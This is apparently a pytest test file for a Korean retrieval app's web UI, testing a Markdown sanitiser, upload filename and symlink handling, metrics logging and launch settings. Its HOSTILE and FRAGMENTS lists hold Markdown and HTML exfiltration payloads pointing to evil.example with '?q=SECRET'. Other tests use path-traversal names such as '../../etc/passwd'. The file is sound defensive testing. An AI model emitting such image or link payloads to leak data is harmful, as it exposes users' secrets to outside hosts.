"""The UI's pure parts: safe Markdown, upload names, timings, identity, language, launch line."""

from __future__ import annotations

import random
import re
import subprocess
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from ingest.uploads import MAX_NAME_BYTES, safe_filename, save_upload, staging, uploads_folder
from rag.config import Settings
from rag.errors import BllossomRagError
from ui.cli.ui_command import app_script, streamlit_argv
from ui.web.i18n import LABELS, resolve_language
from ui.web.metrics import GenerationLog, GenerationSample
from ui.web.safe_markdown import (
    Block,
    MarkdownGuard,
    literal_markdown,
    safe_markdown,
    split_code_blocks,
)

HOSTILE = [
    "![pixel](https://evil.example/p.png?q=SECRET)",
    "![pixel][ref]\n\n[ref]: https://evil.example/p.png?q=SECRET",
    "[click me](http://evil.example/?q=SECRET)",
    "<https://evil.example/?q=SECRET>",
    '<img src="https://evil.example/p.png?q=SECRET">',
    "see https://evil.example/?q=SECRET now",
    "www.evil.example/?q=SECRET",
    "\\[x\\](https://evil.example/?q=SECRET)",
    "![x](//evil.example/p.png)",
    "`code` ![x](https://evil.example/a.png) `more`",
    "- item\n  ```\n  fenced in a list\n[x](https://evil.example/)",
    "문의: kim@corp.example 로 보내 주세요",
    "mailto:lee@corp.example",
    "`a` park+hr@corp.example`",
    "| 담당 | choi@corp.example |\n|---|---|",
    "[1] ![p](https:127.0.0.1:8999?x).png",  # a file name with no // in its URL
]


FRAGMENTS = [
    "![x](https://evil.example/p.png?q=S)",
    "[l](http://evil.example/)",
    "https://evil.example/a",
    "www.evil.example",
    "<https://evil.example>",
    '<img src="https://evil.example/i.png">',
    "`",
    "``",
    "```",
    "~~~",
    "[",
    "]",
    "(",
    ")",
    "<",
    ">",
    "\\",
    "!",
    "&#91;",
    "*",
    " ",
    " ",
    "\n",
    "\n\n",
    "- ",
    "> ",
    "    ",
    "1. ",
    "| a | b |\n|---|---|\n",
    "연차 ",
    "kim@corp.example",
    "@",
    "mailto:",
]
_MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
# What GFM would linkify in plain text: URLs, "www." and e-mail addresses (as mailto: links).
_AUTOLINK_LITERAL = re.compile(r"(?i)https?://|www\.|[\w.+-]@[\w-]+\.[\w-]")


def _links_and_images(markdown: str) -> list[str]:
    """What a CommonMark renderer would turn into a link, an image, raw HTML or a GFM autolink."""
    found = []
    pending = _MARKDOWN.parse(markdown)
    while pending:
        token = pending.pop()
        pending.extend(token.children or [])
        if token.type in ("link_open", "image", "html_inline", "html_block"):
            found.append(f"{token.type}: {token.content or token.attrs}")
        elif token.type == "text" and _AUTOLINK_LITERAL.search(token.content):
            found.append(f"autolink: {token.content}")
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_markdown_leaves_nothing_that_links_or_loads(text: str):
    assert _links_and_images(text)  # the input itself is dangerous
    assert _links_and_images(safe_markdown(text)) == []
    assert _links_and_images(literal_markdown(text)) == []


def test_safe_markdown_fuzz_against_a_commonmark_parser():
    rng = random.Random(6)
    for _ in range(1500):
        text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 14)))
        safe = safe_markdown(text)
        assert _links_and_images(safe) == [], (text, safe)
        assert _links_and_images(literal_markdown(text)) == [], text
        for block in split_code_blocks(text):
            if block.language is None:
                assert _links_and_images(safe_markdown(block.text)) == [], text


def test_safe_markdown_keeps_formatting():
    text = "## 연차\n**최대 11일** 입니다 [1].\n- 항목\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    safe = safe_markdown(text)
    assert "## 연차" in safe and "**최대 11일**" in safe and "- 항목" in safe
    assert "\\[1\\]" in safe  # citations render as [1], not as a link reference
    assert "| a | b |\n|---|---|" in safe
    kinds = {token.type for token in _MARKDOWN.parse(safe)}
    assert {"heading_open", "bullet_list_open", "table_open"} <= kinds


def test_code_blocks_are_cut_out_whole():
    text = "앞\n```python\nx = [1](2)\n```\n뒤\n~~~\n열린 채로"
    assert split_code_blocks(text) == [
        Block("앞"),
        Block("x = [1](2)", "python"),
        Block("뒤"),
        Block("열린 채로", "text"),
    ]


def test_markdown_guard_streaming_equals_whole_text():
    text = "\n\n".join(HOSTILE) + "\n```\n[a](b)\n```\n끝 https://x.example/y 입니다."
    whole = safe_markdown(text)
    rng = random.Random(0)
    for _ in range(50):
        guard, out, i = MarkdownGuard(), [], 0
        while i < len(text):
            step = rng.randint(1, 7)
            out.append(guard.feed(text[i : i + step]))
            i += step
        out.append(guard.finish())
        assert "".join(out) == whole


def test_markdown_guard_holds_back_undecided_text():
    guard = MarkdownGuard()
    assert guard.feed("see https://evil.exa") == "see "  # the URL may still grow
    assert guard.feed("mple/p.png done") == "`https://evil.example/p.png` "
    assert guard.feed("\n") == "done\n"
    assert guard.finish() == ""


def test_literal_markdown_shows_text_as_written():
    assert literal_markdown("# 휴가_정책.md *x*") == "\\# 휴가\\_정책\\.md \\*x\\*"
    assert literal_markdown("see http://a.example/b_c") == "see `http://a.example/b_c`"


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("휴가 정책.md", "휴가_정책.md"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\보고서.txt", "보고서.txt"),
        (".bashrc", "bashrc"),
        ("..", "upload"),
        ("a\x00b\nc.md", "a_b_c.md"),
        ("report.MD", "report.MD"),
    ],
)
def test_safe_filename(given: str, expected: str):
    assert safe_filename(given) == expected


def test_safe_filename_caps_length_in_bytes():
    name = safe_filename("가" * 500 + ".md")
    assert name.endswith(".md") and len(name.encode()) <= MAX_NAME_BYTES


def test_save_upload_stays_in_folder_and_never_follows_links(tmp_path: Path):
    folder = tmp_path / "uploads" / "default"
    outside = tmp_path / "outside.txt"
    outside.write_text("keep")
    saved = save_upload(folder, "../../outside.txt", b"new")
    assert saved == folder / "outside.txt" and saved.read_bytes() == b"new"
    assert outside.read_text() == "keep"
    # a planted symlink at the target is replaced, its target untouched
    (folder / "link.md").symlink_to(outside)
    save_upload(folder, "link.md", b"data")
    assert not (folder / "link.md").is_symlink() and outside.read_text() == "keep"
    assert not [p for p in folder.iterdir() if p.name.startswith(".")]  # no temp file left


def test_every_set_of_groups_has_a_folder_of_its_own(tmp_path: Path):
    sets = [(), ("public",), ("hr",), ("hr", "legal"), ("hr.legal",), ("a/b",), ("a_b",), ("../x",)]
    folders = {groups: uploads_folder(tmp_path, "c", groups) for groups in sets}
    assert len(set(folders.values())) == len(sets)
    root = (tmp_path / "uploads" / "c").resolve()
    assert all(folder.parent == root for folder in folders.values())  # none escapes
    assert folders[()].name == "public" and folders["hr", "legal"].name == "groups-hr.legal"
    assert uploads_folder(tmp_path, "c", ["legal", "hr", "hr"]) == folders["hr", "legal"]
    assert uploads_folder(tmp_path, "c", ["인사"]).name == "groups-인사"


def test_staging_is_hidden_private_and_removed(tmp_path: Path):
    folder = tmp_path / "uploads" / "c"
    with staging(folder) as staged:
        saved = save_upload(staged, "../plan.txt", b"x")
        assert saved.parent == staged and staged.parent == folder
        assert staged.name.startswith(".") and staged.stat().st_mode & 0o077 == 0
    assert not staged.exists() and list(folder.iterdir()) == []


def test_save_upload_refuses_symlinked_folder(tmp_path: Path):
    real = tmp_path / "elsewhere"
    real.mkdir()
    (tmp_path / "uploads").mkdir()
    (tmp_path / "uploads" / "c").symlink_to(real)
    with pytest.raises(BllossomRagError, match="symlink"):
        save_upload(tmp_path / "uploads" / "c", "a.md", b"x")
    assert list(real.iterdir()) == []


def test_generation_log_round_trip(tmp_path: Path):
    log = GenerationLog(tmp_path / "m.sqlite3")
    assert log.recent() == []
    for i in range(3):
        log.record(GenerationSample(1000.0 + i, "c", "in-process", 0.5, 2.5, 41, None))
    log.record(GenerationSample(2000.0, "c", "worker", None, 1.0, 0, "worker down"))
    samples = GenerationLog(tmp_path / "m.sqlite3").recent(limit=3)
    assert [s.at for s in samples] == [1001.0, 1002.0, 2000.0]  # newest 3, oldest first
    assert samples[0].tokens_per_s == pytest.approx(40 / 2.0)
    assert samples[-1].tokens_per_s is None and samples[-1].error == "worker down"


def test_language_resolution_and_complete_labels():
    assert resolve_language("auto", "ko-KR") == "ko"
    assert resolve_language("auto", "en-US") == "en"
    assert resolve_language("auto", None) == "en"
    assert resolve_language("ko", "en-US") == "ko"
    for key, (korean, english) in LABELS.items():
        assert korean.strip() and english.strip(), key
        fields = [set(re.findall(r"{(\w+)", text)) for text in (korean, english)]
        assert fields[0] == fields[1], key


def test_streamlit_command_line_passes_settings_and_extra_flags():
    settings = Settings(ui={"max_upload_mb": 7})
    argv = streamlit_argv(settings, "0.0.0.0", 9000, ["--server.headless", "true"])
    assert argv[1:5] == ["-m", "streamlit", "run", str(app_script())]
    assert Path(argv[4]).is_file() and Path(argv[4]).name == "app.py"
    flags = dict(zip(argv[5::2], argv[6::2], strict=True))
    assert flags["--server.address"] == "0.0.0.0" and flags["--server.port"] == "9000"
    assert flags["--server.maxUploadSize"] == "7" and flags["--server.headless"] == "true"


def test_ui_command_reports_a_bad_setting_in_one_line(cli_env: dict[str, str]):
    env = {**cli_env, "BLLOSSOM_RAG_UI__LANGUAGE": "fr"}
    result = subprocess.run(
        ["bllossom-rag", "ui"], env=env, capture_output=True, text=True, timeout=120, check=False
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert result.stderr.strip() == (
        "Error: invalid setting ui.language (BLLOSSOM_RAG_UI__LANGUAGE='fr'): "
        "Input should be 'auto', 'ko' or 'en'"
    )


def test_a_long_path_keeps_its_end():
    from ui.web.widgets import path_tail

    assert path_tail("/srv/docs/a.md") == "/srv/docs/a.md"
    long = "/tmp/" + "x" * 80 + "/uploads/hr/plan.txt"
    shown = path_tail(long, limit=30)
    assert len(shown) == 30 and shown.startswith("…") and shown.endswith("/uploads/hr/plan.txt")
